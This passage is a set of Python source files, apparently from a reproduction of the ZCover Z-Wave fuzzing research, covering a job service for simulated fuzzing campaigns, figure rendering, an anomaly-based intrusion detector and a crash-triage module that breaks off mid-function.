            if wall_monotonic() >= deadline:
                raise ServeClientError(
                    f"job {job_id} not finished after {timeout}s "
                    f"(state {current.state}, "
                    f"{current.units_done}/{current.units_total} units)"
                )
            wall_sleep(poll)
