"""`zcover serve`: campaign execution as a long-lived job service.

The paper's campaigns are batch scripts; this package turns them into
*requests*.  A client POSTs a :class:`~repro.serve.protocol.JobSpec`
(device, mode, scheduler, seed, fault plan, flow set) to an asyncio
HTTP/JSON service (:mod:`repro.serve.service`), which validates it,
queues it, and shards its :class:`~repro.core.parallel.CampaignUnit`s
across a persistent :class:`~repro.core.parallel.WorkerPool`.  Results
ride the :mod:`repro.core.resultio` wire format, and the canonical
result document a client downloads is **byte-identical** to running the
same spec in-process (:mod:`repro.serve.results`) — including after a
mid-job kill, thanks to the CRC-keyed write-ahead checkpoint
(:mod:`repro.serve.checkpoint`).

Module map — only :mod:`~repro.serve.protocol` is imported eagerly
(``repro.core.resultio`` pulls the spec/status dataclasses from it, so
this ``__init__`` must stay free of resultio-importing submodules):

* ``protocol`` — :class:`JobSpec`/:class:`JobStatus`, validation, the
  job state machine, content-addressed job ids;
* ``results`` — unit building and the canonical result documents (the
  byte-identity contract);
* ``jobs`` — the thread-safe FIFO job queue and per-job records;
* ``checkpoint`` — the write-ahead completed-units log;
* ``service`` — the asyncio HTTP server and job runner;
* ``client`` — the stdlib HTTP client behind ``zcover submit``.
"""

from .protocol import (
    JOB_DONE,
    JOB_FAILED,
    JOB_KINDS,
    JOB_QUEUED,
    JOB_RUNNING,
    JOB_STATES,
    JobSpec,
    JobStatus,
    SpecError,
    job_id_for,
    validate_spec,
)

__all__ = [
    "JOB_DONE",
    "JOB_FAILED",
    "JOB_KINDS",
    "JOB_QUEUED",
    "JOB_RUNNING",
    "JOB_STATES",
    "JobSpec",
    "JobStatus",
    "SpecError",
    "job_id_for",
    "validate_spec",
]
