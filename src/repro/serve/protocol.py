"""Job-service protocol: specs, statuses and the job state machine.

A *job* is a campaign the service runs on a client's behalf: repeated
fuzzing trials (``kind="trials"``), a stateful session campaign
(``kind="sessions"``) or a fault-injection resilience audit
(``kind="chaos"``).  The :class:`JobSpec` here is the entire request — a
handful of plain scalars naming a deterministic computation — which is
what makes the service's correctness contract so strong: the result a
client receives must be **byte-identical** to running the same spec
in-process (see :mod:`repro.serve.results`).

This module is deliberately free of any :mod:`repro.core.resultio`
import: the wire codecs for :class:`JobSpec`/:class:`JobStatus` live in
``resultio`` itself (wire v6), which imports these classes at module
level so the W3xx wire-safety lint proves their fields JSON-clean.

Job identity is content-addressed: :func:`job_id_for` hashes the
canonical spec serialisation, so submitting the same spec twice is
idempotent — the second submission joins the first job instead of
re-running it.

State machine::

    queued ──▶ running ──▶ done
                   └─────▶ failed

A killed service re-enqueues unfinished jobs from its checkpoint on
restart (``running`` collapses back to ``queued``); ``done`` and
``failed`` are terminal.
"""

from __future__ import annotations

import json
import zlib
from dataclasses import dataclass, field
from typing import Dict, Optional, Tuple

from ..errors import CampaignError

#: Job lifecycle states, in nominal order.
JOB_QUEUED = "queued"
JOB_RUNNING = "running"
JOB_DONE = "done"
JOB_FAILED = "failed"

JOB_STATES: Tuple[str, ...] = (JOB_QUEUED, JOB_RUNNING, JOB_DONE, JOB_FAILED)

#: Legal state-machine transitions (resume re-queues a running job).
VALID_TRANSITIONS: Dict[str, Tuple[str, ...]] = {
    JOB_QUEUED: (JOB_RUNNING,),
    JOB_RUNNING: (JOB_DONE, JOB_FAILED, JOB_QUEUED),
    JOB_DONE: (),
    JOB_FAILED: (),
}

#: The job kinds the service executes.
JOB_KINDS: Tuple[str, ...] = ("trials", "sessions", "chaos")

#: Stock fault-plan names accepted over the wire (no file paths: a spec
#: must be self-contained, never a pointer into the server's filesystem).
STOCK_FAULT_PLANS: Tuple[str, ...] = ("canonical", "lossy", "flaky")

_MODES: Tuple[str, ...] = ("full", "beta", "gamma")
_SCHEDULERS: Tuple[str, ...] = ("static", "coverage")


class SpecError(CampaignError):
    """A job spec failed validation; ``field`` names the offending entry."""

    def __init__(self, field_name: str, message: str):
        super().__init__(f"{field_name}: {message}")
        self.field = field_name
        self.reason = message


@dataclass(frozen=True)
class JobSpec:
    """Everything the service needs to run one job, as plain scalars.

    ``trials`` is kind-specific: the trial count for ``trials``/``chaos``
    jobs, the per-flow trial override for ``sessions`` jobs (``None``
    keeps each kind's stock default).  ``hours`` are *simulated* hours,
    exactly like the CLI.  ``flows`` applies to session jobs only; empty
    means every flow in canonical order.
    """

    kind: str = "trials"
    device: str = "D1"
    mode: str = "full"
    seed: int = 0
    trials: Optional[int] = None
    hours: float = 1.0
    scheduler: str = "static"
    fault_plan: Optional[str] = None
    flows: Tuple[str, ...] = field(default_factory=tuple)

    def resolved_trials(self) -> Optional[int]:
        """The effective trial count (kind-specific stock default)."""
        if self.trials is not None:
            return self.trials
        if self.kind == "trials":
            return 5
        if self.kind == "chaos":
            return 2
        return None  # sessions: the stock SessionPlan budget applies


def validate_spec(spec: JobSpec) -> None:
    """Reject malformed specs with a structured, field-naming error."""
    from ..core.session import FLOWS
    from ..simulator.testbed import CONTROLLER_IDS

    if spec.kind not in JOB_KINDS:
        raise SpecError("kind", f"unknown job kind {spec.kind!r}; expected one of {JOB_KINDS}")
    if spec.device not in CONTROLLER_IDS:
        raise SpecError("device", f"unknown device {spec.device!r}")
    if spec.mode not in _MODES:
        raise SpecError("mode", f"unknown mode {spec.mode!r}; expected one of {_MODES}")
    if not isinstance(spec.seed, int) or isinstance(spec.seed, bool):
        raise SpecError("seed", "seed must be an integer")
    if spec.trials is not None and (
        not isinstance(spec.trials, int) or isinstance(spec.trials, bool) or spec.trials < 1
    ):
        raise SpecError("trials", "trials must be a positive integer or null")
    if not isinstance(spec.hours, (int, float)) or isinstance(spec.hours, bool) or spec.hours <= 0:
        raise SpecError("hours", "hours must be a positive number")
    if spec.scheduler not in _SCHEDULERS:
        raise SpecError(
            "scheduler", f"unknown scheduler {spec.scheduler!r}; expected one of {_SCHEDULERS}"
        )
    if spec.fault_plan is not None and spec.fault_plan not in STOCK_FAULT_PLANS:
        raise SpecError(
            "fault_plan",
            f"unknown fault plan {spec.fault_plan!r}; expected one of {STOCK_FAULT_PLANS}",
        )
    if spec.kind == "chaos" and spec.fault_plan is None:
        raise SpecError("fault_plan", "chaos jobs require a stock fault plan name")
    if spec.kind != "sessions" and spec.flows:
        raise SpecError("flows", f"flows apply to session jobs only, not {spec.kind!r}")
    for flow in spec.flows:
        if flow not in FLOWS:
            raise SpecError("flows", f"unknown flow {flow!r}; expected a subset of {FLOWS}")
    if len(set(spec.flows)) != len(spec.flows):
        raise SpecError("flows", "duplicate flow names")


def spec_key(spec: JobSpec) -> str:
    """Canonical serialisation of a spec (job-identity preimage)."""
    return json.dumps(
        {
            "kind": spec.kind,
            "device": spec.device,
            "mode": spec.mode,
            "seed": spec.seed,
            "trials": spec.trials,
            "hours": spec.hours,
            "scheduler": spec.scheduler,
            "fault_plan": spec.fault_plan,
            "flows": list(spec.flows),
        },
        sort_keys=True,
        separators=(",", ":"),
    )


def job_id_for(spec: JobSpec) -> str:
    """Content-addressed job id: equal specs collapse onto one job.

    CRC-32 of the canonical spec serialisation (the same deliberate
    choice as :func:`repro.faults.schedule.derive_seed`: stable across
    processes and interpreter versions, unlike builtin ``hash``).
    """
    return f"job-{zlib.crc32(spec_key(spec).encode('utf-8')):08x}"


@dataclass(frozen=True)
class JobStatus:
    """A point-in-time view of one job, as returned by ``GET /jobs/<id>``.

    ``sequence`` is the job's queue ticket (submission order);
    ``units_done``/``units_total`` expose shard-level progress, and
    ``counters`` streams the merged obs counters of every completed unit
    so clients can watch packet/bug counts grow mid-job.
    """

    job_id: str
    state: str
    kind: str
    device: str
    seed: int
    sequence: int
    units_total: int
    units_done: int
    error: str = ""
    counters: Dict[str, int] = field(default_factory=dict)


def valid_transition(current: str, target: str) -> bool:
    """Whether the job state machine allows ``current -> target``."""
    return target in VALID_TRANSITIONS.get(current, ())
