"""Canonical result documents: the service's byte-identity contract.

A job's result is a *document* — canonical JSON (sorted keys, indent 2,
trailing newline, via :func:`repro.obs.export.canonical_dumps`) — and
the contract is that the bytes the service hands a client equal the
bytes an in-process run of the same :class:`~repro.serve.protocol.JobSpec`
would produce.  Both sides of that equation live here:

* the service path builds units with :func:`spec_units`, executes them on
  its worker pool, and folds the outcomes through
  :func:`document_from_outcomes`;
* the oracle path (:func:`direct_document`, used by ``zcover submit
  --direct`` and the black-box test harness) runs the spec through the
  ordinary :func:`~repro.core.trials.run_trials` /
  :func:`~repro.core.session.run_sessions` entry points.

Both feed the **same** per-kind document builder, so the envelope cannot
drift; byte-equality then reduces to the serial/parallel determinism the
executor already guarantees (``tests/test_parallel_determinism.py``).
The document embeds wire-v6 payloads (:mod:`repro.core.resultio`), so a
client from a different build fails loudly on the version check instead
of misparsing.
"""

from __future__ import annotations

from typing import Any, List, Sequence

from ..core.campaign import HOUR, Mode
from ..core.parallel import CampaignUnit
from ..core.resultio import (
    campaign_from_wire,
    jobspec_to_wire,
    merge_trials,
    session_from_wire,
    session_to_wire,
    vfuzz_from_wire,
)
from ..core.session import FLOWS, session_plan_with_trials
from ..core.trials import trial_units
from ..errors import CampaignError
from ..obs.export import canonical_dumps, snapshot_to_document
from .protocol import JobSpec, job_id_for

#: Document type marker, mirroring the chaos/obs/lint schema envelopes.
RESULT_SCHEMA = "zcover-serve-result"
RESULT_SCHEMA_VERSION = 1


def spec_mode(spec: JobSpec) -> Mode:
    """The :class:`~repro.core.campaign.Mode` a (validated) spec names."""
    return Mode[spec.mode.upper()]


def spec_duration(spec: JobSpec) -> float:
    """Per-campaign simulated duration in seconds (specs carry hours)."""
    return spec.hours * HOUR


def spec_fault_plan(spec: JobSpec):
    """The stock :class:`~repro.faults.plan.FaultPlan`, or ``None``.

    Specs only ever name stock plans (never server-side file paths — see
    :data:`repro.serve.protocol.STOCK_FAULT_PLANS`), so resolution cannot
    touch the filesystem.
    """
    if spec.fault_plan is None:
        return None
    from ..faults.plan import stock_plan

    return stock_plan(spec.fault_plan)


def spec_flows(spec: JobSpec) -> tuple:
    """The session flows a spec selects (empty means every flow)."""
    return tuple(spec.flows) if spec.flows else FLOWS


def spec_units(spec: JobSpec) -> List[CampaignUnit]:
    """The campaign units of one job, in canonical (merge) order.

    Exactly the units the in-process entry points would build: trial
    series come from :func:`~repro.core.trials.trial_units`, session
    campaigns shard one unit per flow with the stock plan (trial budget
    overridden by ``spec.trials``) — the byte-identity contract starts
    here, with identical shards.
    """
    if spec.kind == "sessions":
        from ..core.session import dumps_session_plan, flow_graph

        flows = spec_flows(spec)
        for flow in flows:
            flow_graph(flow)  # validates the name
        plan_json = dumps_session_plan(session_plan_with_trials(spec.trials))
        return [
            CampaignUnit(
                device=spec.device,
                seed=spec.seed,
                kind="sessions",
                flow=flow,
                session_plan_json=plan_json,
            )
            for flow in flows
        ]
    return trial_units(
        device=spec.device,
        mode=spec_mode(spec),
        n_trials=spec.resolved_trials(),
        duration=spec_duration(spec),
        base_seed=spec.seed,
        fault_plan=spec_fault_plan(spec),
        scheduler=spec.scheduler,
    )


def rehydrate_unit_result(unit: CampaignUnit, wire: dict) -> Any:
    """Decode one unit's wire-form result (pool harvest or checkpoint).

    The checkpoint stores completed units exactly as workers returned
    them, so resuming a killed job replays this decode — the same one the
    live harvest path uses — and merged output cannot tell the difference.
    """
    if unit.kind == "sessions":
        return session_from_wire(wire)
    if unit.kind == "vfuzz":
        return vfuzz_from_wire(wire)
    return campaign_from_wire(wire)


# -- the per-kind document builders (shared by service and oracle) -------------


def _envelope(spec: JobSpec, payload: dict) -> dict:
    """The common document envelope around a kind-specific payload."""
    doc = {
        "schema": RESULT_SCHEMA,
        "schema_version": RESULT_SCHEMA_VERSION,
        "job_id": job_id_for(spec),
        "spec": jobspec_to_wire(spec),
    }
    doc.update(payload)
    return doc


def _trials_document(spec: JobSpec, summary) -> dict:
    """Document for ``kind="trials"`` (from a TrialSummary, either path)."""
    from ..core.resultio import campaign_to_wire

    return _envelope(
        spec,
        {
            "trials": [campaign_to_wire(result) for result in summary.trials],
            "failures": [
                {
                    "label": failure.unit.label(),
                    "category": failure.category,
                    "attempts": failure.attempts,
                }
                for failure in summary.failures
            ],
            "metrics": summary.metrics_document(),
            "render": summary.render(),
        },
    )


def _chaos_document(spec: JobSpec, summary) -> dict:
    """Document for ``kind="chaos"``: wraps the canonical chaos report."""
    from ..faults.report import build_chaos_document

    return _envelope(
        spec,
        {"chaos": build_chaos_document(summary, spec_fault_plan(spec), spec.seed)},
    )


def _session_document(spec: JobSpec, result) -> dict:
    """Document for ``kind="sessions"`` (from a merged SessionResult)."""
    return _envelope(
        spec,
        {
            "session": session_to_wire(result),
            "metrics": snapshot_to_document(
                result.metrics,
                meta={
                    "kind": "sessions",
                    "device": result.device,
                    "seed": result.seed,
                    "flows": ",".join(result.flows),
                },
            ),
        },
    )


def document_from_outcomes(spec: JobSpec, outcomes: Sequence[Any]) -> dict:
    """Fold executor outcomes (canonical order) into the result document.

    This is the service path; *outcomes* may mix live pool harvests and
    checkpoint-restored units.  Session jobs mirror
    :func:`~repro.core.session.run_sessions` exactly: any failed flow
    shard fails the whole job (a partial session merge would silently
    change flow-union semantics).
    """
    if spec.kind == "sessions":
        from ..core.session import merge_session_results

        results = []
        for outcome in outcomes:
            if outcome.result is None:
                failure = outcome.failure.render() if outcome.failure else "unknown"
                raise CampaignError(f"session unit failed: {failure}")
            results.append(outcome.result)
        return _session_document(spec, merge_session_results(results))
    summary = merge_trials(
        spec.device, spec_mode(spec), spec_duration(spec), list(outcomes)
    )
    if spec.kind == "chaos":
        return _chaos_document(spec, summary)
    return _trials_document(spec, summary)


def direct_document(spec: JobSpec) -> dict:
    """The oracle: run *spec* in-process (serially) and build its document.

    ``zcover submit --direct`` and the black-box harness call this; its
    bytes are what the service must reproduce.
    """
    if spec.kind == "sessions":
        from ..core.session import run_sessions

        result = run_sessions(
            device=spec.device,
            flows=spec_flows(spec),
            seed=spec.seed,
            plan=session_plan_with_trials(spec.trials),
            workers=1,
        )
        return _session_document(spec, result)
    from ..core.trials import run_trials

    summary = run_trials(
        device=spec.device,
        mode=spec_mode(spec),
        n_trials=spec.resolved_trials(),
        duration=spec_duration(spec),
        base_seed=spec.seed,
        workers=1,
        fault_plan=spec_fault_plan(spec),
        scheduler=spec.scheduler,
    )
    if spec.kind == "chaos":
        return _chaos_document(spec, summary)
    return _trials_document(spec, summary)


def dumps_result_document(doc: dict) -> str:
    """Canonical serialisation of a result document (the body bytes).

    Delegates to :func:`repro.obs.export.canonical_dumps` so every schema
    document in the tree shares one byte-level convention.
    """
    return canonical_dumps(doc)
