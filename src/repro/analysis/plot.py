"""Dependency-free SVG renderers for the paper's figures.

The benches print ASCII tables; this module additionally emits the two
data figures as standalone SVG files so the reproduction produces the same
*artifacts* the paper shows:

* :func:`figure5_svg` — the commands-per-command-class bar chart;
* :func:`figure12_svg` — packets-over-time with discovery crosses for one
  campaign (one panel of the paper's four).

Plain string assembly, no third-party plotting stack.
"""

from __future__ import annotations

import html
from pathlib import Path
from typing import List, Union

from ..core.campaign import CampaignResult
from ..zwave.registry import SpecRegistry
from .report import figure5_series

_FONT = "font-family='Helvetica,Arial,sans-serif'"


def _svg_document(width: int, height: int, body: List[str]) -> str:
    head = (
        f"<svg xmlns='http://www.w3.org/2000/svg' width='{width}' "
        f"height='{height}' viewBox='0 0 {width} {height}'>"
    )
    background = f"<rect width='{width}' height='{height}' fill='white'/>"
    return "\n".join([head, background, *body, "</svg>"])


def figure5_svg(registry: SpecRegistry) -> str:
    """Render Figure 5 (command distribution) as an SVG bar chart."""
    series = figure5_series(registry)
    width, height = 720, 360
    margin_left, margin_bottom, margin_top = 50, 120, 30
    plot_w = width - margin_left - 20
    plot_h = height - margin_bottom - margin_top
    max_count = max(count for _, count in series) or 1
    bar_gap = plot_w / len(series)
    bar_w = bar_gap * 0.7

    body: List[str] = [
        f"<text x='{width / 2}' y='18' text-anchor='middle' {_FONT} "
        f"font-size='13'>Figure 5: commands per command class</text>"
    ]
    # Y axis with gridlines every 5 commands.
    for tick in range(0, max_count + 1, 5):
        y = margin_top + plot_h - plot_h * tick / max_count
        body.append(
            f"<line x1='{margin_left}' y1='{y:.1f}' x2='{width - 20}' "
            f"y2='{y:.1f}' stroke='#dddddd' stroke-width='1'/>"
        )
        body.append(
            f"<text x='{margin_left - 6}' y='{y + 4:.1f}' text-anchor='end' "
            f"{_FONT} font-size='10'>{tick}</text>"
        )
    for index, (name, count) in enumerate(series):
        x = margin_left + index * bar_gap + (bar_gap - bar_w) / 2
        bar_h = plot_h * count / max_count
        y = margin_top + plot_h - bar_h
        body.append(
            f"<rect x='{x:.1f}' y='{y:.1f}' width='{bar_w:.1f}' "
            f"height='{bar_h:.1f}' fill='#4477aa'/>"
        )
        body.append(
            f"<text x='{x + bar_w / 2:.1f}' y='{y - 4:.1f}' text-anchor='middle' "
            f"{_FONT} font-size='10'>{count}</text>"
        )
        label_x = x + bar_w / 2
        label_y = margin_top + plot_h + 8
        body.append(
            f"<text x='{label_x:.1f}' y='{label_y:.1f}' {_FONT} font-size='8' "
            f"text-anchor='end' transform='rotate(-55 {label_x:.1f} {label_y:.1f})'>"
            f"{html.escape(name)}</text>"
        )
    return _svg_document(width, height, body)


def figure12_svg(
    result: CampaignResult, horizon: float = 800.0, max_packets: int = 1000
) -> str:
    """Render one Figure 12 panel: packets vs time with discovery marks."""
    width, height = 520, 340
    margin = 55
    plot_w, plot_h = width - 2 * margin, height - 2 * margin

    def x_of(t: float) -> float:
        return margin + plot_w * min(t, horizon) / horizon

    def y_of(packets: float) -> float:
        return margin + plot_h - plot_h * min(packets, max_packets) / max_packets

    body: List[str] = [
        f"<text x='{width / 2}' y='20' text-anchor='middle' {_FONT} "
        f"font-size='13'>Figure 12 ({html.escape(result.device)}): "
        f"detection over time</text>",
        f"<rect x='{margin}' y='{margin}' width='{plot_w}' height='{plot_h}' "
        f"fill='none' stroke='#333333'/>",
    ]
    for tick in range(0, int(horizon) + 1, 200):
        body.append(
            f"<text x='{x_of(tick):.1f}' y='{height - margin + 16}' "
            f"text-anchor='middle' {_FONT} font-size='10'>{tick}</text>"
        )
    for tick in range(0, max_packets + 1, 200):
        body.append(
            f"<text x='{margin - 6}' y='{y_of(tick) + 4:.1f}' text-anchor='end' "
            f"{_FONT} font-size='10'>{tick}</text>"
        )
    body.append(
        f"<text x='{width / 2}' y='{height - 8}' text-anchor='middle' {_FONT} "
        f"font-size='11'>Time (sec)</text>"
    )
    body.append(
        f"<text x='14' y='{height / 2}' text-anchor='middle' {_FONT} "
        f"font-size='11' transform='rotate(-90 14 {height / 2})'># Packet</text>"
    )
    # The packets-over-time polyline.
    points = [
        f"{x_of(p.timestamp):.1f},{y_of(p.packets):.1f}"
        for p in result.fuzz.timeline
        if p.timestamp <= horizon
    ]
    if points:
        body.append(
            f"<polyline points='{' '.join(points)}' fill='none' "
            f"stroke='#4477aa' stroke-width='1.5'/>"
        )
    # Red discovery crosses.
    for t, packets, bug_id in result.discovery_timeline():
        if t > horizon:
            continue
        cx, cy = x_of(t), y_of(packets)
        for dx1, dy1, dx2, dy2 in ((-4, -4, 4, 4), (-4, 4, 4, -4)):
            body.append(
                f"<line x1='{cx + dx1:.1f}' y1='{cy + dy1:.1f}' "
                f"x2='{cx + dx2:.1f}' y2='{cy + dy2:.1f}' "
                f"stroke='#cc3311' stroke-width='2'/>"
            )
        if bug_id is not None:
            body.append(
                f"<text x='{cx + 6:.1f}' y='{cy - 6:.1f}' {_FONT} "
                f"font-size='9' fill='#cc3311'>#{bug_id:02d}</text>"
            )
    return _svg_document(width, height, body)


def save_svg(svg: str, path: Union[str, Path]) -> Path:
    """Write an SVG string to disk and return the path."""
    path = Path(path)
    path.write_text(svg, encoding="utf-8")
    return path
