"""ZMAD-style lightweight intrusion detection (the paper's remediation).

Section V-B: "For legacy devices, a lightweight intrusion detection system
(IDS) (e.g., [15]) can detect attacks and trigger alarms or alerts."
Reference [15] is ZMAD (Nkuba et al., IEEE Access 2023), a model-based
anomaly detector for the structured Z-Wave protocol.  This module
implements the same idea against our simulated network:

* a **training phase** builds a whitelist model of normal traffic — the
  (src, CMDCL, CMD) triples seen, the per-class payload-length envelope,
  and the per-node frame rate;
* a **detection phase** scores each frame against the model; violations
  raise typed alerts (unknown sender, never-seen command class, payload
  length outside the learned envelope, rate spikes).

Every ZCover attack payload in Table III violates at least one of these
rules, so the IDS catches them, while the normal poll/report traffic of
the testbed stays silent — the trade-off the paper proposes for devices
that cannot receive firmware fixes.
"""

from __future__ import annotations

from collections import defaultdict
from dataclasses import dataclass, field
from enum import Enum
from typing import Dict, List, Optional, Set, Tuple

from ..zwave.frame import ZWaveFrame


class AlertKind(Enum):
    """Why a frame was flagged."""

    UNKNOWN_SENDER = "unknown_sender"
    FOREIGN_NETWORK = "foreign_network"
    UNKNOWN_CMDCL = "unknown_cmdcl"
    UNKNOWN_CMD = "unknown_cmd"
    LENGTH_ANOMALY = "length_anomaly"
    RATE_ANOMALY = "rate_anomaly"
    SEQUENCE_ANOMALY = "sequence_anomaly"


@dataclass(frozen=True)
class Alert:
    """One IDS detection."""

    timestamp: float
    kind: AlertKind
    src: int
    cmdcl: Optional[int]
    detail: str


@dataclass
class TrafficModel:
    """The learned picture of normal network behaviour."""

    home_id: int
    known_senders: Set[int] = field(default_factory=set)
    known_cmdcls: Set[int] = field(default_factory=set)
    known_commands: Set[Tuple[int, int]] = field(default_factory=set)
    length_bounds: Dict[int, Tuple[int, int]] = field(default_factory=dict)
    max_rate_per_minute: float = 0.0
    #: The ZMAD-style Markov layer: observed per-sender command-class
    #: bigrams (src, previous cmdcl, cmdcl).
    transitions: Set[Tuple[int, int, int]] = field(default_factory=set)
    _last_cmdcl: Dict[int, int] = field(default_factory=dict)

    def observe(self, frame: ZWaveFrame) -> None:
        """Fold one benign frame into the model."""
        self.known_senders.add(frame.src)
        if frame.cmdcl is None:
            return
        self.known_cmdcls.add(frame.cmdcl)
        if frame.cmd is not None:
            self.known_commands.add((frame.cmdcl, frame.cmd))
        lo, hi = self.length_bounds.get(frame.cmdcl, (255, 0))
        size = len(frame.payload)
        self.length_bounds[frame.cmdcl] = (min(lo, size), max(hi, size))
        previous = self._last_cmdcl.get(frame.src)
        if previous is not None:
            self.transitions.add((frame.src, previous, frame.cmdcl))
        self._last_cmdcl[frame.src] = frame.cmdcl

    def transition_known(self, src: int, previous: Optional[int], cmdcl: int) -> bool:
        """Whether the (src, previous→current) class bigram was trained."""
        if previous is None:
            return True  # first observation from this sender
        return (src, previous, cmdcl) in self.transitions


class ZWaveIDS:
    """Model-based anomaly detector for one Z-Wave network."""

    #: Sliding window used for rate estimation, in seconds.
    RATE_WINDOW = 60.0
    #: Headroom multiplier over the trained peak rate.
    RATE_SLACK = 3.0

    def __init__(self, home_id: int):
        self._model = TrafficModel(home_id=home_id)
        self._trained = False
        self._alerts: List[Alert] = []
        self._arrivals: Dict[int, List[float]] = defaultdict(list)
        self._train_arrivals: List[float] = []
        self._live_last_cmdcl: Dict[int, int] = {}

    @property
    def model(self) -> TrafficModel:
        return self._model

    @property
    def trained(self) -> bool:
        return self._trained

    def alerts(self) -> List[Alert]:
        return list(self._alerts)

    # -- training ---------------------------------------------------------------

    def train(self, frames: List[Tuple[float, ZWaveFrame]]) -> TrafficModel:
        """Learn the normal model from (timestamp, frame) observations."""
        for timestamp, frame in frames:
            if frame.home_id != self._model.home_id or frame.is_ack:
                continue
            self._model.observe(frame)
            self._train_arrivals.append(timestamp)
        self._model.max_rate_per_minute = self._peak_rate(self._train_arrivals)
        self._trained = True
        return self._model

    def _peak_rate(self, arrivals: List[float]) -> float:
        if not arrivals:
            return 1.0
        arrivals = sorted(arrivals)
        peak = 1
        lo = 0
        for hi, t in enumerate(arrivals):
            while t - arrivals[lo] > self.RATE_WINDOW:
                lo += 1
            peak = max(peak, hi - lo + 1)
        return float(peak)

    # -- detection -----------------------------------------------------------------

    def inspect(self, timestamp: float, frame: ZWaveFrame) -> List[Alert]:
        """Score one frame; returns (and records) any alerts raised."""
        if not self._trained:
            raise RuntimeError("train the IDS before inspecting traffic")
        raised: List[Alert] = []
        if frame.home_id != self._model.home_id:
            raised.append(
                Alert(timestamp, AlertKind.FOREIGN_NETWORK, frame.src, frame.cmdcl,
                      f"home id 0x{frame.home_id:08X} is not this network")
            )
        if frame.is_ack:
            self._alerts.extend(raised)
            return raised
        if frame.src not in self._model.known_senders:
            raised.append(
                Alert(timestamp, AlertKind.UNKNOWN_SENDER, frame.src, frame.cmdcl,
                      f"node {frame.src} never appeared during training")
            )
        cmdcl = frame.cmdcl
        if cmdcl is not None and cmdcl != 0x00:
            # The Markov layer: an unseen per-sender class transition from
            # an otherwise-known sender is suspicious even when every
            # individual field looks trained.
            previous = self._live_last_cmdcl.get(frame.src)
            if (
                frame.src in self._model.known_senders
                and cmdcl in self._model.known_cmdcls
                and not self._model.transition_known(frame.src, previous, cmdcl)
            ):
                raised.append(
                    Alert(timestamp, AlertKind.SEQUENCE_ANOMALY, frame.src, cmdcl,
                          f"node {frame.src} never followed 0x{previous:02X} "
                          f"with 0x{cmdcl:02X} in benign traffic")
                )
            self._live_last_cmdcl[frame.src] = cmdcl
            if cmdcl not in self._model.known_cmdcls:
                raised.append(
                    Alert(timestamp, AlertKind.UNKNOWN_CMDCL, frame.src, cmdcl,
                          f"command class 0x{cmdcl:02X} never seen in benign traffic")
                )
            else:
                cmd = frame.cmd
                if cmd is not None and (cmdcl, cmd) not in self._model.known_commands:
                    raised.append(
                        Alert(timestamp, AlertKind.UNKNOWN_CMD, frame.src, cmdcl,
                              f"command 0x{cmd:02X} of class 0x{cmdcl:02X} is new")
                    )
                bounds = self._model.length_bounds.get(cmdcl)
                if bounds is not None:
                    lo, hi = bounds
                    if not lo <= len(frame.payload) <= hi:
                        raised.append(
                            Alert(timestamp, AlertKind.LENGTH_ANOMALY, frame.src, cmdcl,
                                  f"payload length {len(frame.payload)} outside [{lo}, {hi}]")
                        )
        raised.extend(self._rate_check(timestamp, frame))
        self._alerts.extend(raised)
        return raised

    def _rate_check(self, timestamp: float, frame: ZWaveFrame) -> List[Alert]:
        arrivals = self._arrivals[frame.src]
        arrivals.append(timestamp)
        while arrivals and timestamp - arrivals[0] > self.RATE_WINDOW:
            arrivals.pop(0)
        threshold = max(self._model.max_rate_per_minute * self.RATE_SLACK, 5.0)
        if len(arrivals) > threshold:
            return [
                Alert(timestamp, AlertKind.RATE_ANOMALY, frame.src, frame.cmdcl,
                      f"{len(arrivals)} frames/min from node {frame.src} "
                      f"(threshold {threshold:.0f})")
            ]
        return []
