"""Analysis and defence extensions: reporting and intrusion detection."""

from .ids import Alert, AlertKind, TrafficModel, ZWaveIDS
from .plot import figure5_svg, figure12_svg, save_svg
from .summary import campaign_report
from .triage import (
    CrashTriage,
    PayloadMinimizer,
    TriagedBug,
    render_triage_report,
)
from .report import (
    FIGURE5_CLASS_IDS,
    figure5_series,
    render_figure5,
    render_figure12,
    render_table,
    render_table2,
    render_table3,
    render_table4,
    render_table5,
    render_table6,
)

__all__ = [
    "Alert",
    "AlertKind",
    "campaign_report",
    "CrashTriage",
    "figure12_svg",
    "figure5_svg",
    "PayloadMinimizer",
    "save_svg",
    "render_triage_report",
    "TriagedBug",
    "FIGURE5_CLASS_IDS",
    "figure5_series",
    "render_figure5",
    "render_figure12",
    "render_table",
    "render_table2",
    "render_table3",
    "render_table4",
    "render_table5",
    "render_table6",
    "TrafficModel",
    "ZWaveIDS",
]
