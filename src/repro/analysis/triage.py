"""Crash triage and proof-of-concept payload minimisation.

After a fuzzing trial the paper's workflow is manual: verify each crash,
deduplicate, and "develop proof-of-concept exploits for selected critical
vulnerabilities".  This module automates the mechanical parts:

* :class:`CrashTriage` — clusters a bug log by verified signature, checks
  each representative's *stability* (does it reproduce on a pristine
  device every time?), and produces a ranked report;
* :class:`PayloadMinimizer` — shrinks a bug-inducing payload to its
  minimal form via greedy delta-debugging against the packet tester
  (drop trailing parameters, then zero the survivors), yielding the clean
  PoC payloads the Table III rows cite.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict, List, Optional

from ..core.buglog import BugLog
from ..core.tester import PacketTester, Signature, VerifiedFinding

#: How often a finding must reproduce to count as stable.
DEFAULT_STABILITY_RUNS = 3


@dataclass(frozen=True)
class TriagedBug:
    """One deduplicated, stability-checked finding."""

    signature: Signature
    finding: VerifiedFinding
    occurrences: int
    stability: float  # fraction of replays that reproduced
    minimized_payload: Optional[bytes] = None

    @property
    def stable(self) -> bool:
        return self.stability == 1.0

    @property
    def severity_rank(self) -> int:
        """Crude ranking: persistent impact outranks timed outages."""
        if self.finding.duration_s is None:
            return 0
        return 1


class PayloadMinimizer:
    """Greedy delta-debugging of bug payloads against a fresh SUT."""

    def __init__(self, device: str = "D1", seed: int = 0):
        self._tester = PacketTester(device=device, seed=seed)
        self.attempts = 0

    def _reproduces(self, payload: bytes, signature: Signature) -> bool:
        self.attempts += 1
        finding = self._tester.verify_payload(payload)
        return finding is not None and finding.signature == signature

    def minimize(self, payload: bytes) -> bytes:
        """Return the smallest payload with the same verified signature."""
        baseline = self._tester.verify_payload(payload)
        if baseline is None:
            return payload
        signature = baseline.signature
        current = payload
        # Pass 1: strip trailing parameter bytes while the bug survives.
        while len(current) > 2:
            candidate = current[:-1]
            if self._reproduces(candidate, signature):
                current = candidate
            else:
                break
        # Pass 2: zero every surviving parameter byte that tolerates it.
        for index in range(2, len(current)):
            if current[index] == 0x00:
                continue
            candidate = current[:index] + b"\x00" + current[index + 1 :]
            if self._reproduces(candidate, signature):
